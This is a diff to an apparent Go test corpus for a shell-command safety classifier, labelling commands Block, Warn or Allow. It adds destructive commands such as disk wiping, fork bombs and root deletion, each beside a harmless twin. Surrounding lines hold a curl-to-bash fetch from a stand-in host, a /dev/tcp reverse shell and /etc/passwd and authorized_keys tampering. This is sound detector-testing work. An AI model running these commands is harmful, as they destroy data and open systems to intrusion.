@@ -29,7 +29,17 @@ var corpus = []struct {
 	{`echo select disk 0 & echo clean | diskpart`, Block}, {`(echo select disk 0; echo clean) | diskpart`, Block},
 	{`rm -rf "${x:-/}"`, Block}, {`r${x}m -rf /`, Block}, {`rm -r{,f} /`, Block}, {`function f { f | f & }; f`, Block},
 
-	{`curl -s http://evil.example/x.sh | bash`, Warn}, {`wget -qO- http://x | sh`, Warn}, {`chmod -R 777 /`, Warn},
+	// Destructive families: one example of each, beside its near twin on a
+	// relative path below.
+	{`find / -delete`, Block}, {`echo / | xargs rm -rf`, Block}, {`cd /; rm -rf .`, Block}, {`cp /dev/zero /dev/sda`, Block},
+	{`sgdisk --zap-all /dev/sda`, Block}, {`a(){ a & a; }; a`, Block}, {`perl -e 'fork while 1'`, Block},
+	{`python3 -c 'import shutil; shutil.rmtree("/")'`, Block}, {`chmod -R 000 /`, Block}, {`reg delete HKLM\SOFTWARE /f`, Block},
+	{`find . -delete`, Allow}, {`echo build | xargs rm -rf`, Allow}, {`cd /tmp; rm -rf .`, Allow}, {`cp /dev/zero ./zeros.img`, Allow},
+	{`sgdisk --zap-all ./disk.img`, Allow}, {`a(){ echo a & echo b; }; a`, Allow}, {`perl -e 'print "fork\n"'`, Allow},
+	{`python3 -c 'import shutil; shutil.rmtree("build")'`, Allow}, {`chmod -R 755 dir`, Allow}, {`reg delete HKLM\SOFTWARE\MyApp /f`, Allow},
+	{`rm -rf ./build`, Allow},
+
+	{`curl -s http://evil.example/x.sh | bash`, Warn}, {`wget -qO- http://x | sh`, Warn}, {`chmod -R 777 /`, Block},
 	{`chmod 777 /etc/shadow`, Warn}, {`echo "hacker:x:0:0::/root:/bin/bash" >> /etc/passwd`, Warn},
 	{`bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`, Warn}, {`shutdown now`, Warn}, {`reboot`, Warn}, {`sudo poweroff`, Warn},
 	{`halt -p`, Warn}, {`init 0`, Warn}, {`echo password | sudo -S rm x`, Warn}, {`echo key >> ~/.ssh/authorized_keys`, Warn},
